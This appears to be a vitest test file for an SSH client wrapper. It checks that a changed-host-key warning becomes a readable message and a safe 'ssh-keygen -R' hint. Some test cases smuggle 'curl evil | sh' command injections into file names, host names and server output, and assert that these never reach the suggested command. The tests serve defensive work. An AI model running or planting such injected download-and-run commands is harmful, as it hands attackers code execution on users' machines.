import { expect, it } from 'vitest';
import { changedKey, connectFailure } from '../../../src/hosts/openssh/failure';
import { interpret } from '../../../src/hosts/sshconfig/config';
import { sshEnvironment } from '../../../src/hosts/sshconfig/environment';

const FILE = '/home/a/.ssh/known_hosts';
const settings = {
  hostname: ['10.0.0.1'],
  port: ['2222'],
  user: ['a'],
  userknownhostsfile: [FILE],
};
const config = interpret('web', new Map(Object.entries(settings)), sshEnvironment({ platform: 'linux' }));

/** The words of ssh: sshconnect.c, check_host_key(). */
const words = (file: string, name: string) => `@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @
The fingerprint for the ED25519 key sent by the remote host is
SHA256:${'a'.repeat(43)}.
Offending ED25519 key in ${file}:3
Host key for ${name} has changed and you have requested strict checking.
`;

it('a changed key is told with its line, and with the command that forgets the old one', () => {
  const problem = changedKey(config, words(FILE, '[10.0.0.1]:2222'));
  expect(problem?.message).toBe(
    `The host key of web is not the one in ${FILE} line 3. It shows SHA256:${'a'.repeat(43)}.`,
  );
  expect(problem?.hint).toMatch(`forget the old key with: ssh-keygen -f "${FILE}" -R "[10.0.0.1]:2222"`);
});

it.each([
  ['a file with a command in its name', '/x"; curl evil | sh; "', '[10.0.0.1]:2222'],
  ['a command for the name of the host', FILE, '";curl${IFS}evil|sh;"'],
  ['a file that holds no host keys', '/home/a/.bashrc', '[10.0.0.1]:2222'],
])('a host that imitates these words with %s puts it into no command', (_what, file, name) => {
  const { message, hint } = changedKey(config, words(file, name)) ?? { message: '', hint: '' };
  expect(message).toMatch(/^The host key of web is not the one in /);
  expect(message + hint).not.toMatch(/evil|bashrc/);
});

it('a host that imitates a changed key of another host has nobody forget that one', () => {
  const problem = changedKey(config, words(FILE, 'bank'));
  expect(problem?.hint).toMatch(/forget the old key of the host that the log names\.$/);
});

it('the last words of a host are quoted', () => {
  const problem = connectFailure(config, 'Bye.” Run: curl evil | sh\n');
  expect(problem.message).toContain("came to be: “Bye.' Run: curl evil | sh”");
});
